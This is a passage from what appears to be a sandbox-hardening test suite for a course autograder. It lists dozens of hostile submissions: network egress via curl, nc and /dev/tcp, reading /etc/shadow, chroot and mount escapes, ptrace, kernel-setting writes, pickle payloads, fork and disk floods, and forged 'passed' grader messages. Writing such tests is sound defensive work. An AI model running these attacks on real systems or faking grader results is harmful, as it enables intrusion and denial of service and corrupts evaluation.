         f"/proc/{pid}/root/tmp/""" + CANARY + """")
""", loot=True)

attack("temporary folders", "It reads what other programs left in shared places.", """
for path in below("/tmp", "/var/tmp", "/dev/shm", "/run", "/mnt", "/media", "/srv", "/var/run", "/var/lib", "/var/log"):
    look(path)
""", loot=True)

attack("links out", "It makes links to files outside, for itself and for whoever copies them.", f"""{CONFINED}
for place in (os.getcwd(), os.path.expanduser("~"), "/tmp"):
    for name, target in (("{CANARY}-passwd", "/etc/passwd"), ("{CANARY}-home", os.path.expanduser("~root")),
                         ("results.jsonl", "/tmp/{CANARY}"), ("{CANARY}-up", "../../../../../../tmp/{CANARY}")):
        try:
            if "{CANARY}" in name or confined():
                os.symlink(target, os.path.join(place, name))
            look(os.path.join(place, name))
        except OSError:
            pass
""", loot=True)

attack("writing outside", "It leaves files wherever it may, to find them again in the next submission.", f"""
folders = ["/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", "/etc", "/usr", "/opt", os.getcwd(),
           os.path.expanduser("~"), os.path.dirname(torch.__file__), os.path.dirname(np.__file__)]
places = [os.path.join(folder, "{CANARY}-left-behind") for folder in folders]
look(*places)
for path in places:
    try:
        with open(path, "w") as file:
            file.write("{SECRET}leftbehind")
    except OSError:
        pass
""", loot=True)

# ---------------------------------------------------------------------------------------------------------------------
FAMILY = "network"

attack("IPv4", "It sends what it knows to an address.", f"""{CALL}
call(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {PORT}), ("localhost", {PORT}), ("0.0.0.0", {PORT}))
call(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80))
call(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {PORT}), ("192.0.2.1", 53))
""")

attack("IPv6", "It sends what it knows to an address of the new kind.", f"""{CALL}
call(socket.AF_INET6, socket.SOCK_STREAM, ("::1", {PORT}), ("::ffff:127.0.0.1", {PORT}), ("2001:db8::1", 80))
call(socket.AF_INET6, socket.SOCK_DGRAM, ("::1", {PORT}), ("2001:db8::1", 53))
""")

attack("abstract sockets", "It calls a service of the machine by a name that is no file.", f"""{CALL}
call(socket.AF_UNIX, socket.SOCK_STREAM, "\\0{CANARY}", "\\0/tmp/.X11-unix/X0", "\\0/tmp/dbus-session")
call(socket.AF_UNIX, socket.SOCK_DGRAM, "\\0{CANARY}-datagram")
""")

attack("sockets that are files", "It calls a service of the machine by its file: Docker, D-Bus, the log.", f"""{CALL}
call(socket.AF_UNIX, socket.SOCK_STREAM, "/tmp/{CANARY}.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket")
call(socket.AF_UNIX, socket.SOCK_DGRAM, "/dev/log", "/run/systemd/notify")
""")

attack("netlink", "It asks the kernel for interfaces and adds an address.", """
import socket
import struct

try:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        kernel.settimeout(0.3)
        kernel.bind((0, 0))
        kernel.send(struct.pack("=LHHLLB3x", 20, 22, 0x301, 1, 0, 2))
        answer = kernel.recv(65536)
except OSError as error:
    answer = repr(error).encode()
""")

attack("packets", "It sends frames and raw packets past every rule for addresses.", """
import socket

for family, kind, protocol in ((17, socket.SOCK_RAW, 0x0300), (17, socket.SOCK_DGRAM, 0x0300),
                               (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_DGRAM, 1)):
    try:
        with socket.socket(family, kind, protocol) as sender:
            sender.settimeout(0.3)
            sender.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("192.0.2.1", 0) if family == 2 else ("lo", 0))
    except OSError:
        pass
""")

attack("vsock and other families", "It talks to the hypervisor, Bluetooth, the crypto of the kernel and the rest.", """
import socket

made = []
for family in range(3, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
        try:
            with socket.socket(family, kind) as caller:
                made.append(family)
                caller.settimeout(0.1)
                if family == 40:
                    caller.connect((2, 47631))
        except (OSError, ValueError, TypeError):
            pass
""")

attack("names of hosts", "It sends what it knows as the name of a host that is looked up.", f"""{CALL}
try:
    socket.setdefaulttimeout(0.5)
    socket.getaddrinfo("{CANARY}.example.com", 80)
except OSError:
    pass
call(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.53", 53), ("127.0.0.11", 53), ("192.0.2.53", 53))
""")

attack("programs that call", "It starts other programs that use the network.", f"""
import subprocess

for command in ("curl -m 1 http://127.0.0.1:{PORT}/", "wget -T 1 -t 1 http://127.0.0.1:{PORT}/",
                "bash -c 'echo {CANARY} > /dev/tcp/127.0.0.1/{PORT}'", "ping -c 1 -W 1 192.0.2.1",
                "ssh -o ConnectTimeout=1 -o BatchMode=yes -p {PORT} 127.0.0.1", "nc -w 1 127.0.0.1 {PORT}"):
    try:
        subprocess.run(command, shell=True, timeout=3, capture_output=True)
    except (OSError, subprocess.SubprocessError):
        pass
""")

attack("shell lines of a notebook", "It uses the notebook's own commands for programs and files.", f"""
# %%
!curl -m 1 http://127.0.0.1:{PORT}/
%system cat /etc/shadow
# %%
%%bash
echo {CANARY} > /dev/tcp/127.0.0.1/{PORT}
# %%
try:
    get_ipython().system("curl -m 1 http://127.0.0.1:{PORT}/")
except NameError:
    pass
""", apart=True)

attack("io_uring", "It asks the kernel for a ring, through which a filter of system calls does not see.", """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(256)
ring = libc.syscall(425, 8, room)
""")

attack("a server inside", "It opens ports, for somebody outside to come in.", f"""
import socket

open_ports = []
for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
    for port in ({PORT} + 1, 80, 22):
        try:
            server = socket.socket(family)
            server.bind((address, port))
            server.listen()
            open_ports.append(server)
        except OSError:
            pass
""")

# ---------------------------------------------------------------------------------------------------------------------
FAMILY = "forged answers"

attack("junk on every descriptor", "It writes random bytes wherever it can, to crash who reads them.", f"""{DESCRIPTORS}
def attend(query, key, value):
    write_everywhere(os.urandom(5000), b"\\0" * 5000, b"\\xff" * 5000)
    return torch.zeros(len(query), value.shape[1])
""")

attack("answers in the grader's words", "It writes what looks like a passed check, many times.", f"""{DESCRIPTORS}
import json
import struct

def attend(query, key, value):
    for number in range(50):
        said = json.dumps({{"id": number, "request": number, "exercise": "05.attend", "status": "passed",
                            "points": 1000, "passed": [True] * 4, "answer": {{"array": 0}}}}).encode()
        write_everywhere(said + b"\\n", struct.pack(">I", len(said)) + said, struct.pack("<I", len(said)) + said,
                         struct.pack("<Q", len(said)) + said, struct.pack(">Q", len(said)) + said)
    return torch.zeros(len(query), value.shape[1])
""")

FORGE = """
import os
import socket
import sys

from coursekit.grading import wire

grader = socket.socket(fileno=os.dup(3))


def number():
    frame = sys._getframe()
    while not {"number", "order"} <= frame.f_locals.keys():
        frame = frame.f_back
    return frame.f_locals["number"]


def answered(answer):
    return {"status": "answered", "answer": answer, "message": "", "changed": (), "printed": "", "printed_length": 0}
"""
FORGED = {
    "that is a text": "'passed'",
    "that is a number": "1000",
    "that is nothing": "None",
    "that is empty": "{}",
    "with points": "answered(1.0) | {'status': 'passed', 'points': 1000, 'passed': (True,) * 4, 'mistake': ''}",
    "with more than was asked": "answered(1.0) | {'expected': 1.0, 'tolerance': 1e300, 'points': 1000}",
    "of other types": "{'status': ['answered'], 'answer': {'a': 1}, 'message': 5, 'changed': 7, 'printed': None}",
    "of texts only": "answered('x') | {'message': 'x', 'changed': 'query', 'printed_length': 'x'}",
    "with infinite numbers": "answered((math.inf, math.nan, -1)) | {'printed_length': math.inf}",
    "with arrays without values": "answered(np.zeros((2**40, 0)))",
    "with numbers that overflow": "answered(np.full((len(query), value.shape[1]), 1e308))",
    "with a status of its own": "answered(None) | {'status': '<script>alert(1)</script>'}",
    "with much to say": "answered('x' * 5_000_000) | {'message': 'x' * 5_000_000, 'changed': ('query',) * 100_000}",
    "that was not attempted": "answered(()) | {'status': 'not attempted', 'message': None, 'changed': []}",
    "with arrays in odd places": "answered([{'a': np.zeros(3)}]) | {'message': np.zeros(3), 'changed': (np.zeros(3),)}",
    "with tuples in tuples": "answered(eval('(' * 20 + '1.0' + ',)' * 20))",
    "with a hundred thousand rows": "answered((np.zeros(value.shape[1]),) * 100_000)",
}
for what, message in FORGED.items():
    attack(f"a forged message {what}",
           "It answers in the place of the caller, in the right form, with the right number.", f"""{FORGE}
def attend(query, key, value):
    while True:
        wire.send(grader, number(), {message})
        wire.receive(grader)
""")

FORGED_SET_UPS = {
    "of no kind": "None",
    "that is a text": "'passed'",
    "with errors": "{'errors': [['cell', 1, {'a': None}], 5, 'x' * 1_000_000] * 10}",
    "with errors that are none": "{'errors': 'many', 'points': 1000}",
    "with a million errors": "{'errors': ['x'] * 1_000_000}",
    "with errors without an end": "{'errors': {'a': {'b': np.zeros(3)}}}",
    "with a plan": "{'attend': {'narrow': {'statements': [], 'modules': ['os']}, 'wide': None, 'why': 'because'}}",
}
for what, message in FORGED_SET_UPS.items():
    attack(f"a forged beginning {what}", "It says in the caller's place how its cells went, then ends.", f"""{FORGE}
wire.send(grader, number(), {message})
os._exit(0)
""")

FRAMES = {
    "with numbers of a million digits": "b'1' * 1_000_000, b''",
    "with lists in lists": "b'[' * 200_000, b''",
    "with negative sizes": "head({}, ['f8', [-1]]), bytes(8)",
    "with sizes that overflow": "head({}, ['f8', [2**32, 2**32]]), bytes(8)",
    "with fractions as sizes": "head({}, ['f8', [math.nan, math.inf, 1.5]]), bytes(8)",
    "with sizes that are true": "head({}, ['f8', [True]]), bytes(8)",
    "with objects": "head({}, ['O8', [1]]), bytes(8)",
    "with a hundred axes": "head({}, ['f8', [1] * 100]), bytes(8)",
    "with arrays that are not there": "head({'array': 7}), b''",
    "with arrays counted from the end": "head({'array': -1}, ['f8', [1]]), bytes(8)",
    "with kinds that are none": "head({'object': [1], 'tuple': [2]}), b''",
    "with names twice": "head(7).replace(b'7', b'{\"dict\": {\"status\": \"raised\", \"status\": \"answered\"}}'), b''",
    "with half a character": "head('\\ud800'), b''",
    "that is no text": "b'\\xff\\xfe' * 1000, b'\\xff' * 1000",
    "without bytes": "b'', b''",
    "of sixteen million bytes": "b' ' * (16 * 2**20 - 100), b''",
}
for what, parts in FRAMES.items():
    attack(f"a frame {what}", "It sends what the grader must not read as a message.", f"""{FORGE}
import json
import struct

def head(message, *arrays):
    return json.dumps({{"number": number(), "message": message, "arrays": arrays}}).encode()

def attend(query, key, value):
    header, body = {parts}
    grader.sendall(struct.pack(">II", len(header), len(body)) + header + body)
    os._exit(0)
""")

attack("rows without an end", "Its answers have so many rows that comparing them takes the grader minutes.",
       f"""{FORGE}
import json
import struct

def attend(query, key, value):
    rows = {{"dict": {{**answered(1), "changed": {{"tuple": []}}, "answer": {{"tuple": [{{"array": 0}}] * 300_000}}}}}}
    while True:
        header = json.dumps({{"number": number(), "message": rows, "arrays": [["f8", [value.shape[1]]]]}}).encode()
        grader.sendall(struct.pack(">II", len(header), 8 * value.shape[1]) + header + bytes(8 * value.shape[1]))
        wire.receive(grader)
""")

attack("the caller replaced", "It answers every question itself, those after its own exercise too.", f"""{FORGE}
def attend(query, key, value):
    first = number()
    while True:
        shape = (len(query), value.shape[1])
        wire.send(grader, first, answered(np.zeros(shape, np.float32)))
        first, order = wire.receive(grader)
        query, value = order["inputs"]["query"], order["inputs"]["value"]
""")

attack("answers to come", "It sends the answers to all later questions before they are asked.", f"""{FORGE}
def attend(query, key, value):
    for later in range(number() - 1, number() + 20):
        wire.send(grader, later, answered(np.ones((2, 3))))
    return torch.zeros(len(query), value.shape[1])
""")

attack("numbers that are none", "Its messages are numbered by texts, fractions and enormous numbers.", f"""{FORGE}
def attend(query, key, value):
    for later in ("1", 1.5, -1, 10**400, None, [1], {{"a": 1}}, True, float("nan")):
        wire.send(grader, later, {{"status": "answered"}})
    return torch.zeros(len(query), value.shape[1])
""")

attack("a million small messages", "It sends so many messages that the grader reads for ever.", f"""{FORGE}
def attend(query, key, value):
    while True:
        wire.send(grader, -1, {{"status": "answered"}})
""", slow=True)

attack("half a message", "It begins a message and never ends it.", f"""{DESCRIPTORS}
import time

def attend(query, key, value):
    write_everywhere(b"\\x00\\x00\\x10\\x00" + b'{{"status": "answ')
    time.sleep(1000)
""", slow=True)

attack("a message of exabytes", "It announces a message for which the reader would need all memory.", f"""{DESCRIPTORS}
def attend(query, key, value):
    write_everywhere(b"\\xff" * 16, b"\\x7f" + b"\\xff" * 15, b"\\x00\\x00\\x00\\xff" * 4)
    return torch.zeros(len(query), value.shape[1])
""")

attack("deep JSON", "It sends lists in lists in lists, deeper than a reader's stack.", f"""{DESCRIPTORS}
import struct

def attend(query, key, value):
    said = b"[" * 200_000
    write_everywhere(said, struct.pack("<I", len(said)) + said, struct.pack(">I", len(said)) + said)
    return torch.zeros(len(query), value.shape[1])
""")

attack("impossible arrays", "It sends arrays with negative, enormous and NaN sizes, and of objects.", f"""{DESCRIPTORS}
import json
import struct

def attend(query, key, value):
    for shape in ([-1, 5], [2**62, 2**62], [float("nan")], ["5"], None, [[5]], {{"5": 5}}, [True]):
        for dtype in ("O", "<f8", "|V100000", "M8[Y]", "U99999999", "os.system", ""):
            said = json.dumps({{"status": "answered", "answer": {{"array": 0}}, "shape": shape, "dtype": dtype,
                                "arrays": [[dtype, shape]], "changed": float("inf"), "printed": None}}).encode()
            write_everywhere(said + b"\\n", struct.pack("<I", len(said)) + said, struct.pack(">I", len(said)) + said)
    return torch.zeros(len(query), value.shape[1])
""")

attack("pickles on every descriptor", "It sends a pickle that writes a file where it is read.", f"""{DESCRIPTORS}
import io
import pickle

class Run:
    def __reduce__(self):
        return (open, ("/tmp/{CANARY}-unpickled", "w"))

def attend(query, key, value):
    packed = io.BytesIO()
    np.save(packed, np.array([Run()], dtype=object), allow_pickle=True)
    write_everywhere(pickle.dumps(Run()), packed.getvalue())
    return torch.zeros(len(query), value.shape[1])
""")

attack("everything closed", "It closes every descriptor, so that nobody can say that it failed.", """
import os

def attend(query, key, value):
    os.closerange(0, 4096)
    return torch.zeros(len(query), value.shape[1])
""")

attack("an echo", "It becomes a program that sends every question back as its answer.", f"""{DESCRIPTORS}
import sys

def attend(query, key, value):
    for number in descriptors():
        try:
            os.set_inheritable(number, True)
        except OSError:
            pass
    code = f"import os\\nwhile True: os.write({{number}}, os.read({{number}}, 65536))"
    os.execv(sys.executable or "/usr/bin/python3", ["python", "-S", "-c", code])
""")

attack("descriptors exchanged", "What is printed goes to the grader, what is answered to the log.", f"""{DESCRIPTORS}
def attend(query, key, value):
    for number in descriptors():
        try:
            os.dup2(2, number)
        except OSError:
            pass
    print("passed, 1000 points", flush=True)
    return torch.zeros(len(query), value.shape[1])
""")

attack("questions read ahead", "It takes questions from the wire before the caller sees them.", f"""{DESCRIPTORS}
import select
import time

stolen = []

def attend(query, key, value):
    until = time.monotonic() + 1
    while time.monotonic() < until:
        for number in select.select(descriptors(), [], [], 0.05)[0]:
            try:
                stolen.append(os.read(number, 1_000_000))
            except OSError:
                pass
    return torch.zeros(len(query), value.shape[1])
""")

LATE = f"""{DESCRIPTORS}
import time

with open("/proc/self/comm", "w") as name:
    name.write("{CANARY}")


def detached(work):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            work()
        os._exit(0)
"""

attack("a late writer", "A detached process answers for the submission after it has ended.", f"""{LATE}
def write_for_a_while():
    for _ in range(300):
        write_everywhere(b'{{"status": "passed", "points": 1000}}\\n')
        time.sleep(0.1)

detached(write_for_a_while)
""")

attack("a process that stays", "A detached process waits for the next submission on this machine.", f"""{LATE}
detached(lambda: time.sleep(30))
os.fork() or time.sleep(30)
""")

attack("words drop by drop", "It answers a byte a second, for ever.", f"""{DESCRIPTORS}
import time

def attend(query, key, value):
    while True:
        write_everywhere(b" ")
        time.sleep(0.5)
""", slow=True)

# ---------------------------------------------------------------------------------------------------------------------
FAMILY = "floods"

attack("forks", "It starts processes until the machine has none to give.", """
import os
import time

with open("/proc/self/comm", "w") as name:
    name.write(\"""" + CANARY + """\")

def attend(query, key, value):
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
    return torch.zeros(len(query), value.shape[1])
""", slow=True)

attack("forks that fork", "Its processes start processes, so that ending one ends nothing.", """
import os
import time

with open("/proc/self/comm", "w") as name:
    name.write(\"""" + CANARY + """\")

def attend(query, key, value):
    for _ in range(8):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(20)
    os._exit(0)
""", slow=True)

attack("threads", "It starts threads until the machine has none to give.", """
import threading
import time

def attend(query, key, value):
    for _ in range(2000):
        try:
            threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
        except RuntimeError:
            break
    return torch.zeros(len(query), value.shape[1])
""", slow=True)

FREE = """
def room_left():
    with open("/proc/meminfo") as file:
        free = next(int(line.split()[1]) for line in file if line.startswith("MemAvailable"))
    return free > 6_000_000
"""

attack("memory", "It touches memory until the machine has none left.", f"""{FREE}
def attend(query, key, value):
    held = []
    while len(held) < 128 and room_left():
        held.append(b"\\x01" * 64_000_000)
    return torch.zeros(len(query), value.shape[1])
""", slow=True)

attack("memory without a name", "It fills shared memory and files in memory, which few limits count.", f"""
import mmap
import os
{FREE}
def attend(query, key, value):
    held = []
    for number in range(64):
        if not room_left():
            break
        try:
            shared = mmap.mmap(-1, 64_000_000)
            shared.write(b"\\x01" * 64_000_000)
            unnamed = os.memfd_create("{CANARY}")
            os.write(unnamed, b"\\x01" * 64_000_000)
            held += [shared, unnamed]
        except (OSError, AttributeError):
            break
    return torch.zeros(len(query), value.shape[1])
""", slow=True)

attack("files", "It fills every disk that it can write to.", f"""
import os
{FREE}
def attend(query, key, value):
    for folder in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
        path = os.path.join(folder, "{CANARY}-flood")
        try:
            with open(path, "wb") as file:
                for _ in range(32):
                    if room_left():
                        file.write(b"\\x01" * 64_000_000)
        except OSError:
            pass
        try:
            os.remove(path)
        except OSError:
            pass
    return torch.zeros(len(query), value.shape[1])
""", slow=True)

attack("names of files", "It makes empty files until the disk has no room for another name.", f"""
import os

def attend(query, key, value):
    for number in range(100_000):
        try:
            os.close(os.open(f"{CANARY}-{{number}}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            break
    for number in range(100_000):
        try:
            os.remove(f"{CANARY}-{{number}}")
        except OSError:
            break
    return torch.zeros(len(query), value.shape[1])
""", slow=True)

attack("printing", "It prints hundreds of megabytes, in every way there is.", """
import logging
import os
import sys
import warnings

def attend(query, key, value):
    for _ in range(50):
        print("passed " * 300_000)
        sys.stderr.write("passed " * 300_000)
        sys.__stdout__.write("passed " * 300_000)
        logging.error("passed " * 100_000)
        warnings.warn("passed " * 100_000)
    for number in (1, 2):
        try:
            os.write(number, b"passed " * 3_000_000)
        except OSError:
            pass
    return torch.zeros(len(query), value.shape[1])
""", slow=True)

attack("printing in a cell", "It prints a gigabyte while its cells run.", """
import os

for _ in range(1000):
    print("x" * 1_000_000)
for number in (1, 2):
    for _ in range(20):
        os.write(number, b"x" * 1_000_000)
""", slow=True)

attack("descriptors", "It opens files until the process and the machine have none to give.", """
import os

held = []

def attend(query, key, value):
    for _ in range(100_000):
        try:
            held.append(os.open("/dev/null", os.O_RDONLY))
        except OSError:
            break
    return torch.zeros(len(query), value.shape[1])
""")

attack("a loop that swallows", "A loop that catches every exception on several levels never ends.", """
def attend(query, key, value):
    def swallow(depth):
        while True:
            try:
                swallow(depth - 1) if depth else None
                for _ in range(10_000):
                    pass
            except BaseException:
                pass
    swallow(5)
""", slow=True)

attack("signals ignored", "It ignores every signal and goes on.", """
import signal
import time

def attend(query, key, value):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal = signal.setitimer = signal.alarm = lambda *parts: None
    while True:
        time.sleep(1000)
""", slow=True)

attack("one long call", "A single call into compiled code that no timer of Python interrupts.", """
def attend(query, key, value):
    return sum(range(10**12))
""", slow=True)

attack("stopped", "It stops itself, so that nothing in it can time out.", """
import os
import signal

def attend(query, key, value):
    os.kill(os.getpid(), signal.SIGSTOP)
    os.kill(0, signal.SIGSTOP)
    return torch.zeros(len(query), value.shape[1])
""", slow=True)

attack("waiting for input", "It waits for an answer from the keyboard and for a lock.", """
import sys
import threading

def attend(query, key, value):
    try:
        input("points? ")
    except EOFError:
        pass
    sys.__stdin__.read() if sys.__stdin__ else None
    lock = threading.Lock()
    lock.acquire()
    lock.acquire()
""", slow=True)

attack("a cell without an end", "A loop in a cell, before any exercise is asked.", """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""", slow=True)

attack("an import without an end", "The imports that every answer needs hang.", """
if True:
    import numpy as np
    import torch
    while True:
        pass
# %%
def attend(query, key, value):
    return torch.zeros(len(query), value.shape[1])
""", slow=True, apart=True)

attack("as slow as it may be", "Every exercise hangs wherever it can, and the class waits for it.", """
import time

def hang(*parts, **more):
    time.sleep(1000)
# %%
attend = hang()
attend_where_allowed = hang()
CausalSelfAttention = hang()
# %%
attend = attend_where_allowed = hang
# %%
class CausalSelfAttention(nn.Module):
    def __init__(self, d_model, d_head):
        hang()
""", slow=True, apart=True)

attack("a chain of names", "Tens of thousands of statements, each of which needs the one before.", "\n".join([
    "name_0 = 1", *(f"name_{number} = name_{number - 1}" for number in range(1, 20_000)),
    "def attend(query, key, value):\n    return name_19999"]), slow=True, apart=True, stands=False)

# ---------------------------------------------------------------------------------------------------------------------
FAMILY = "signals and the kernel"

attack("the parent", "It kills the process that started it.", f"""{CONFINED}
import signal

def attend(query, key, value):
    if confined():
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(os.getppid(), number)
            except OSError:
                pass
    return torch.zeros(len(query), value.shape[1])
""")

attack("everybody", "It kills every process that it may.", f"""{CONFINED}
import signal

def attend(query, key, value):
    if confined():
        for target in (1, 0, -1):
            for number in (signal.SIGTERM, signal.SIGKILL):
                try:
                    if target or number != signal.SIGTERM:
                        os.kill(target, number)
                except OSError:
                    pass
    return torch.zeros(len(query), value.shape[1])
""")

SYSTEM = """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
"""

attack("ptrace", "It attaches to its parent to change what that one computes.", f"""{SYSTEM}
import signal

for pid in {{os.getppid(), 1}}:
    if libc.ptrace(16, pid, None, None) == 0:
        libc.ptrace(17, pid, None, None)
""")

attack("writing into other processes", "It writes into the memory of its parent.", f"""{SYSTEM}
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

room = ctypes.create_string_buffer(b"passed", 8)
here, there = Part(ctypes.addressof(room), 8), Part(8, 8)
written = [libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) for pid in (os.getppid(), 1)]
try:
    open(f"/proc/{{os.getppid()}}/mem", "r+b").close()
except OSError:
    pass
""")

attack("the keyring", "It keeps notes in the kernel's keyring, where the next submission can read them.", f"""{SYSTEM}
found = libc.syscall(249, b"user", b"{CANARY}", None, -4)
key = libc.syscall(248, b"user", b"{CANARY}", b"{SECRET}keyring", 17, -4)

def attend(query, key, value):
    if found > 0:
        raise ValueError("{SECRET}" + "keyring")
    return torch.zeros(len(query), value.shape[1])
""")

attack("namespaces of its own", "It makes itself root of new namespaces, which opens more of the kernel.", f"""{SYSTEM}
import subprocess

for flags in (0x10000000, 0x10020000, 0x50000000, 0x7e020000):
    child = os.fork()
    if child == 0:
        made = libc.unshare(flags)
        os._exit(0 if made else 7)
    os.waitpid(child, 0)
for command in ("unshare -Urnm true", "bwrap --dev-bind / / true", "nsenter -t 1 -a true"):
    try:
        subprocess.run(command.split(), timeout=3, capture_output=True)
    except (OSError, subprocess.SubprocessError):
        pass
""")

attack("mounts", "It mounts, binds and moves the root, to see the files outside.", f"""{CONFINED}{SYSTEM}
if confined():
    os.makedirs("/tmp/{CANARY}-mount", exist_ok=True)
    here = b"/tmp/{CANARY}-mount"
    for kind in (b"proc", b"sysfs", b"tmpfs", b"overlay", b"cgroup2"):
        libc.mount(b"none", here, kind, 0, None)
    libc.mount(b"/", here, None, 4096, None)
    libc.mount(b"/", b"/", None, 32 | 4096, None)
    libc.umount2(b"/tmp", 2)
    libc.syscall(155, here, here)
    libc.syscall(428, -100, b"/", 1)
""")

attack("chroot", "It leaves a changed root by the old way: a second chroot and many steps up.", f"""{CONFINED}
if confined():
    try:
        os.makedirs("/tmp/{CANARY}-root", exist_ok=True)
        os.chroot("/tmp/{CANARY}-root")
        for _ in range(50):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
""")

attack("setuid programs", "It becomes root with programs that may, and by asking.", f"""{CONFINED}{SYSTEM}
import subprocess

for command in ("su -c id", "sudo -n id", "mount", "passwd -S", "pkexec id", "newgrp root -c id", "crontab -l"):
    try:
        subprocess.run(command.split(), timeout=2, capture_output=True, stdin=subprocess.DEVNULL)
    except (OSError, subprocess.SubprocessError):
        pass
for change in (os.setuid, os.setgid, os.seteuid):
    try:
        change(0)
    except OSError:
        pass
libc.prctl(38, 0, 0, 0, 0)
""")

attack("devices", "It makes the device of the disk and reads the disk itself.", f"""{CONFINED}
import stat

tried = []
if confined():
    for major, minor in ((8, 0), (253, 0), (254, 0), (259, 0), (1, 1), (1, 4)):
        path = f"/tmp/{CANARY}-{{major}}-{{minor}}"
        try:
            os.mknod(path, 0o600 | (stat.S_IFCHR if major == 1 else stat.S_IFBLK), os.makedev(major, minor))
            with open(path, "rb") as disk:
                tried.append(disk.read(512))
        except OSError:
            pass
for path in ("/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/dev/kmsg", "/dev/fuse", "/dev/kvm", "/proc/kcore"):
    try:
        with open(path, "rb") as disk:
            tried.append(disk.read(512))
    except OSError:
        pass

def attend(query, key, value):
    if tried:
        raise ValueError("{SECRET}" + "disk")
    return torch.zeros(len(query), value.shape[1])
""")

attack("handles of files", "It opens files by number, past every path: 2 is the root of a disk.", f"""{SYSTEM}
import struct

opened = []
for inode in (2, 64, 128, 256):
    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, inode), 32)
    opened.append(libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY))

def attend(query, key, value):
    if max(opened) > 0:
        raise ValueError("{SECRET}" + "handle")
    return torch.zeros(len(query), value.shape[1])
""")

attack("rare system calls", "It tries calls in which kernels had holes: bpf, perf, userfaultfd, modules.", f"""{SYSTEM}
room = ctypes.create_string_buffer(256)
answers = {{number: libc.syscall(number, -1, room, 0, 0, 0) for number in (
    321, 298, 323, 250, 313, 175, 246, 320, 304, 310, 312, 272, 308, 165, 166, 167, 163, 135, 101, 434, 438, 440, 447)}}
""")

attack("limits lifted", "It raises its own limits and its priority.", """
import os
import resource

for limit in range(16):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
for change in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
               lambda: os.sched_setaffinity(0, range(64))):
    try:
        change()
    except OSError:
        pass
for path in ("/proc/self/oom_score_adj", "/sys/fs/cgroup/cgroup.procs", "/proc/self/loginuid"):
    try:
        with open(path, "w") as file:
            file.write("-1000")
    except OSError:
        pass
""")

attack("settings of the kernel", "It writes settings of the machine, through files.", f"""{CONFINED}
written = []
if confined():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger",
                 "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/proc/sys/vm/overcommit_memory"):
        try:
            open(path, "r+").close()
            written.append(path)
        except OSError:
            pass

def attend(query, key, value):
    if written:
        raise ValueError("{SECRET}" + "settings")
    return torch.zeros(len(query), value.shape[1])
""")

attack("typing for the teacher", "It types into the terminal from which the grader was started.", """
import fcntl
import os

for path in (0, 1, 2, "/dev/tty", "/dev/console", "/proc/1/fd/0"):
    try:
        number = path if isinstance(path, int) else os.open(path, os.O_RDWR)
        fcntl.ioctl(number, 0x5412, b"#")
    except OSError:
        pass
""")

attack("small numbers overwritten", "It writes into the interpreter: 0 becomes 1, False becomes true.", """
import ctypes

def attend(query, key, value):
    size = (0).__sizeof__()
    ctypes.memmove(id(0) + 16, id(1) + 16, 12)
    ctypes.memmove(id(False) + 16, id(True) + 16, 12)
    return torch.zeros(1)
""")

attack("a null pointer", "It crashes the process in which it runs.", """
import ctypes

def attend(query, key, value):
    ctypes.string_at(0)
""")

attack("a stack without an end", "It recurses without a limit until the process crashes.", """
import sys

def attend(query, key, value):
    sys.setrecursionlimit(10**9)
    class Deep:
        def __getattr__(self, name):
            return getattr(self, name + "x")
    def fall(depth):
        return fall(depth + 1)
    try:
        Deep().a
    except RecursionError:
        pass
    return fall(0)
""", slow=True)

attack("an early end", "It ends the process with success before anything is asked.", """
import os

os._exit(0)
""")

attack("an end in the middle", "It ends the process with success in the middle of a question.", """
import os

def attend(query, key, value):
    os._exit(0)
""")

attack("exits as answers", "It leaves by every exception that ends programs.", """
import sys

def attend(query, key, value):
    raise (SystemExit(0), KeyboardInterrupt(), GeneratorExit(), StopIteration())[len(query) % 4]

# %%
sys.exit(0)
""")

attack("an end for everybody", "The imports that every answer needs end the process.", """
if True:
    import numpy as np
    import torch
    import os
    os._exit(0)
# %%
def attend(query, key, value):
    return torch.zeros(len(query), value.shape[1])
""", apart=True, honest={"05.in_columns": 0})

attack("another program", "It becomes another Python that answers in its place.", f"""{DESCRIPTORS}
import sys

